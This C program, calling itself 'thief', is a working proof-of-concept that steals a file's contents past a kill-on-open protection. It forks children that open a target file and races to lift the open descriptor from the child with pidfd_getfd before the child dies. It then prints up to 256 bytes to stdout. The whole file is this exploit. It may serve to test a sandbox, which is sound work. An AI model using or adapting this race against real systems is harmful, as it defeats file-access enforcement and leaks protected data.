/* thief TARGET TRIES: a child opens TARGET, and this process takes the descriptor out of the child's table (pidfd_getfd) before
 * the child is gone; the tables aren't shared. What it can read goes to stdout. A child that is killed for opening TARGET
 * still has it for a moment. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv)
{
  char bytes[256];
  if (argc != 3)
    return 2;
  for (int i = 0; i < atoi(argv[2]); i++) {
    int expected = dup(0), taken = -1, status;
    close(expected);
    pid_t child = fork();
    if (child == 0) {
      if (open(argv[1], O_RDONLY) >= 0)
        usleep(100000);
      _exit(0);
    }
    /* the next free one here is the pidfd, so that the child's numbers aren't disturbed */
    int pidfd = syscall(SYS_pidfd_open, child, 0);
    while (taken < 0 && waitpid(child, &status, WNOHANG) == 0)
      taken = syscall(SYS_pidfd_getfd, pidfd, expected, 0);
    if (taken >= 0) {
      ssize_t length = read(taken, bytes, sizeof(bytes));
      kill(child, SIGKILL);
      waitpid(child, &status, 0);
      return length > 0 && write(1, bytes, length) == length ? 0 : 3;
    }
    close(pidfd);
  }
  return 1;
}
